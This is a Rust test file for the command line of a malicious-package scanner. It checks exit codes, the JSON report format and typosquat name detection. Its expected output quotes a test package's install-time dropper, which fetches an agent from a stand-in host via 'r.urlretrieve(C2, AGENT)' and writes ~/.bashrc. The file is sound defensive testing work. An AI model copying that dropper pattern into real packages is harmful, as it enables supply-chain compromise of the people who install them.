//! The command line: exit codes CI relies on, and the JSON contract.

use crate::common::*;
use serde_json::Value;
use std::process::Command;

fn run(args: &[&str]) -> (i32, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap(),
        String::from_utf8(out.stdout).unwrap(),
    )
}

#[test]
fn exit_codes() {
    let clean = temp_folder(
        "cli-clean",
        &[("fastcodec-2.3.0.tar.gz", fastcodec_sdist())],
    );
    let bad = temp_folder(
        "cli-bad",
        &[
            ("libpeshnx-0.1.tar.gz", libpeshnx_sdist()),
            ("fastcodec-2.3.0.tar.gz", fastcodec_sdist()),
        ],
    );
    let broken = temp_folder(
        "cli-broken",
        &[
            ("fastcodec-2.3.0.tar.gz", fastcodec_sdist()),
            ("corrupt.tar.gz", gzip(b"x")[..12].to_vec()),
        ],
    );
    assert_eq!(run(&["scan", clean.to_str().unwrap()]).0, 0);
    assert_eq!(run(&["scan", bad.to_str().unwrap()]).0, 1);
    assert_eq!(
        run(&["scan", broken.to_str().unwrap()]).0,
        2,
        "an unscannable input without findings exits 2"
    );
    assert_eq!(run(&["scan", "/nonexistent/pkgwarden/input"]).0, 2);
    assert_eq!(run(&["scan", "--no-such-flag", "x"]).0, 2);
    assert_eq!(
        run(&["scan", "--fail-on", "suspicious", clean.to_str().unwrap()]).0,
        0
    );
}

#[test]
fn text_report_tells_the_libpeshnx_story() {
    let dir = temp_folder("cli-text", &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())]);
    let (code, out) = run(&["scan", dir.to_str().unwrap()]);
    assert_eq!(code, 1);
    assert!(out.contains("MALICIOUS  libpeshnx 0.1 (pypi)"), "{out}");
    // The story comes first, then why, then the worst finding with its code line.
    let story = out.lines().nth(1).unwrap();
    assert!(
        story.starts_with("  at install time: downloads the executable `http://update.libpeshka.invalid/dev/agent.py`"),
        "{out}"
    );
    assert!(story.contains("writes `~/.bashrc`"), "{out}");
    assert!(
        out.lines()
            .nth(2)
            .unwrap()
            .starts_with("  why malicious: `dropper-chain` at libpeshnx-0.1/setup.py:17"),
        "{out}"
    );
    assert!(
        out.contains("  libpeshnx-0.1/setup.py:17\n      │ r.urlretrieve(C2, AGENT)\n"),
        "{out}"
    );
    let chain = out.find("critical dropper-chain").unwrap();
    assert!(
        chain < out.find("high     download-at-install").unwrap(),
        "{out}"
    );
    assert!(out.contains("1 packages: 1 malicious"), "{out}");
    assert!(!out.contains('\x1b'), "no colour when piped: {out}");
}

#[test]
fn json_follows_the_contract_and_is_stable_across_thread_counts() {
    let dir = temp_folder(
        "cli-json",
        &[
            ("libpeshnx-0.1.tar.gz", libpeshnx_sdist()),
            ("fastcodec-2.3.0.tar.gz", fastcodec_sdist()),
            ("junk.zip", b"PK\x03\x04junk".to_vec()),
        ],
    );
    let (code, out) = run(&[
        "scan",
        "--format",
        "json",
        "--jobs",
        "1",
        dir.to_str().unwrap(),
    ]);
    assert_eq!(code, 1);
    let doc: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(doc["schema_version"], 1);
    assert_eq!(doc["tool"]["name"], "pkgwarden");
    let packages = doc["packages"].as_array().unwrap();
    let paths: Vec<&str> = packages
        .iter()
        .map(|p| p["path"].as_str().unwrap())
        .collect();
    let mut sorted = paths.clone();
    sorted.sort();
    assert_eq!(paths, sorted);
    for p in packages {
        for key in [
            "path",
            "ecosystem",
            "name",
            "version",
            "verdict",
            "findings",
            "errors",
        ] {
            assert!(p.get(key).is_some(), "package lacks {key}: {p}");
        }
        assert!(["pypi", "npm", "rubygems", "unknown"].contains(&p["ecosystem"].as_str().unwrap()));
        assert!(
            ["malicious", "suspicious", "clean", "error"].contains(&p["verdict"].as_str().unwrap())
        );
        for f in p["findings"].as_array().unwrap() {
            for key in [
                "rule",
                "category",
                "severity",
                "confidence",
                "phase",
                "file",
                "line",
                "message",
                "snippet",
            ] {
                assert!(f.get(key).is_some(), "finding lacks {key}: {f}");
            }
            assert!(["critical", "high", "medium", "low", "info"]
                .contains(&f["severity"].as_str().unwrap()));
            assert!(["install", "import", "runtime", "metadata", "archive"]
                .contains(&f["phase"].as_str().unwrap()));
        }
    }
    let s = &doc["summary"];
    assert_eq!(
        (
            s["packages"].as_u64(),
            s["malicious"].as_u64(),
            s["clean"].as_u64(),
            s["error"].as_u64()
        ),
        (Some(3), Some(1), Some(1), Some(1))
    );
    assert!(s["seconds"].is_number());
    let (_, out4) = run(&[
        "scan",
        "--format",
        "json",
        "--jobs",
        "4",
        dir.to_str().unwrap(),
    ]);
    let strip = |s: &str| {
        s.lines()
            .filter(|l| !l.contains("\"seconds\""))
            .collect::<Vec<_>>()
            .join("\n")
    };
    assert_eq!(
        strip(&out),
        strip(&out4),
        "output differs between 1 and 4 threads"
    );
}

#[test]
fn check_name_exit_codes_and_json() {
    let (code, out) = run(&[
        "check-name",
        "--format",
        "json",
        "diango",
        "djago",
        "dajngo",
        "djanga",
        "django",
        "django-filter",
    ]);
    assert_eq!(code, 1);
    let doc: Value = serde_json::from_str(&out).unwrap();
    let flagged: Vec<(&str, bool, Option<&str>)> = doc
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["name"].as_str().unwrap(),
                r["flagged"].as_bool().unwrap(),
                r["target"].as_str(),
            )
        })
        .collect();
    assert_eq!(
        flagged,
        [
            ("diango", true, Some("django")),
            ("djago", true, Some("django")),
            ("dajngo", true, Some("django")),
            ("djanga", true, Some("django")),
            ("django", false, None),
            ("django-filter", false, None)
        ]
    );
    assert_eq!(run(&["check-name", "requests", "numpy"]).0, 0);
    assert_eq!(run(&["check-name", "--ecosystem", "cobol", "x"]).0, 2);
    assert_eq!(
        run(&["check-name", "--from", "/nonexistent/requirements.txt"]).0,
        2
    );
}

#[test]
fn absurd_job_counts_are_clamped_with_a_warning() {
    let dir = temp_folder("cli-jobs", &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())]);
    let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(["scan", "--jobs", "100000"])
        .arg(&dir)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("warning: --jobs 100000"), "{stderr}");
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("MALICIOUS"));
}

#[test]
fn timings_are_reported_only_when_asked() {
    let dir = temp_folder(
        "cli-timings",
        &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())],
    );
    let dir = dir.to_str().unwrap();
    let (_, plain) = run(&["scan", "--format", "json", dir]);
    assert!(!plain.contains("\"timings\""));
    let (_, timed) = run(&["scan", "--format", "json", "--timings", dir]);
    let v: Value = serde_json::from_str(&timed).unwrap();
    let t = &v["packages"][0]["timings"];
    for stage in ["total", "read", "parse", "facts", "propagate", "detect"] {
        assert!(t[stage].as_f64().is_some_and(|s| s >= 0.0), "{stage}: {t}");
    }
    assert!(t["total"].as_f64().unwrap() > 0.0);
    assert!(v["timings"]["report"].as_f64().is_some());
}
